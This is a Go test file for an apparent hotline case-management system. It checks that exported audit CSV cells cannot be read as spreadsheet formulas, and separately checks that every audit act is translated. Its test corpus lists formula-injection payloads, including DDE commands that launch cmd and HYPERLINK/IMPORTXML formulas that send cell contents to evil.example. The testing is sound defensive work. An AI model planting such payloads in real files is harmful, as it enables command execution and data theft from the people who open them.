package audit

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"hotline/i18n"
	"hotline/store"
	"hotline/store/casework"
)

// What a spreadsheet would take for a formula: OWASP's list, and what people hide
// it behind.
var formulaCorpus = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", " =1+1", "\u3000=1+1", "\u00a0=1+1", `"=1+1`, "'=1+1",
	`=cmd|' /C calc'!A0`, `=HYPERLINK("https://evil.example?"&A1,"x")`, `-2+3+cmd|' /C calc'!A0`, "=IMPORTXML(CONCAT(\"https://evil.example\",A1),\"//a\")", `=DDE("cmd";"/C calc";"x")`,
}

func TestNoCellIsAFormula(t *testing.T) {
	t.Parallel()
	catalog, err := i18n.Load()
	if err != nil {
		t.Fatal(err)
	}
	for _, text := range formulaCorpus {
		w := newWords(catalog.Texts("en"), []store.Handler{{ID: "someone", Name: text}}, time.UTC, store.Organization{Routing: casework.Routing{Queues: casework.AllQueues(nil)}, Entities: casework.Entities{{}}})
		record := w.record(store.AuditEntry{N: 1, At: 1, By: "someone", What: "no such act", Subject: "someone", Detail: text})
		var out bytes.Buffer
		table := csv.NewWriter(&out)
		table.UseCRLF = true
		if err := table.Write(record); err != nil {
			t.Fatal(err)
		}
		table.Flush()
		read, err := csv.NewReader(&out).Read()
		if err != nil || len(read) != len(columns) {
			t.Fatalf("%q: %v, %d cells", text, err, len(read))
		}
		for _, i := range []int{2, 5, 7} { // who, details, whom
			if read[i][0] != '\'' {
				t.Errorf("%q: cell %d is %q, which begins a formula", text, i, read[i])
			}
		}
	}
}

// Every act and every detail that the store writes is put into words.
func TestEveryActIsInWords(t *testing.T) {
	t.Parallel()
	catalog, err := i18n.Load()
	if err != nil {
		t.Fatal(err)
	}
	details := map[string][]string{
		store.AuditRead: {"3"}, store.AuditMessage: {"desk 2", "note 4"}, store.AuditState: {"received>acknowledged", "investigating>closed substantiated"},
		store.AuditPriority: {"high"}, store.AuditKind: {"report", "consultation"}, store.AuditStanding: {"counts", "duplicate", "junk"}, store.AuditDanger: {"open", "acted"}, store.AuditQueue: {"hr>independent"}, store.AuditExport: {"sealed", "opened", "masked"}, store.AuditListExport: {"new", "urgent", "all"}, store.AuditLinked: {"related", "duplicate"},
		store.AuditEnrolled: {"key"}, store.AuditWork: {"handler,admin hr,compliance", "auditor "}, store.AuditAdded: {"handler hr"},
		store.AuditSettings: {"organization,exit-url,languages,profile"}, store.AuditPasskey: {"added", "removed"},
		store.AuditLetters: {"acknowledge es ", "consultation.closing.partly pt ", "own-3 * ", "own-3 - "},
	}
	for _, l := range i18n.Languages {
		w := newWords(catalog.Texts(l.Code), nil, time.UTC, store.Organization{Routing: casework.Routing{Queues: casework.AllQueues(nil)}, Entities: casework.Entities{{}}})
		for _, what := range store.Audits {
			if r := w.row(store.AuditEntry{What: what}); r.What == what || r.What == "" {
				t.Errorf("%s: %s has no words", l.Code, what)
			}
			for _, detail := range details[what] {
				got := w.detail(what, detail)
				if got == "" || got == detail && l.Code == "ja" {
					t.Errorf("%s: %s %q is %q", l.Code, what, detail, got)
				}
			}
		}
		if got := w.detail(store.AuditState, "received>nowhere"); !strings.Contains(got, "nowhere") {
			t.Errorf("%s: an unknown state is %q", l.Code, got)
		}
		if got := w.detail("something new", "code"); got != "code" {
			t.Errorf("%s: an unknown act's detail is %q", l.Code, got)
		}
	}
}
